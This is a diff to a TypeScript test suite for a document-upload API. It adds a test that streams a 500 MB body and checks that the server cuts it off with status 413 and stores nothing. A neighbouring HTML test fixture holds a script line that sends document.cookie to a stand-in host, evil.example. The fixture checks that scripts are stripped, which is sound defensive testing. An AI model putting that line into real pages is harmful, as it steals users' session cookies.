@@ -233,6 +233,30 @@ describe("hostile documents", () => {
     expect(res.status).toBe(413);
   });
 
+  it("a 500 MB body is cut off after the bound: the rest is never read, nothing is stored", async () => {
+    let sent = 0;
+    const chunk = new Uint8Array(1024 * 1024).fill(97);
+    const body = new ReadableStream<Uint8Array>({
+      pull(controller) {
+        if (sent >= 500 * 1024 * 1024) return controller.close();
+        sent += chunk.byteLength;
+        controller.enqueue(chunk);
+      },
+    });
+    const res = await call("/v1/documents?name=huge-stream.txt", {
+      method: "POST",
+      headers: { authorization: `Bearer ${admin.key}`, "content-type": "text/plain" },
+      body,
+      duplex: "half",
+    } as RequestInit);
+    expect(res.status).toBe(413);
+    expect(sent).toBeLessThan(16 * 1024 * 1024);
+    const listed = (await (await get(admin.key, "/v1/documents")).json()) as {
+      documents: { name: string }[];
+    };
+    expect(listed.documents.map((d) => d.name)).not.toContain("huge-stream.txt");
+  });
+
   it("an HTML page's scripts and styles are never part of its text", async () => {
     const html = `<html><head><title>Returns</title><style>p{color:red}</style>
       <script>fetch("https://evil.example/?c="+document.cookie)</script></head>
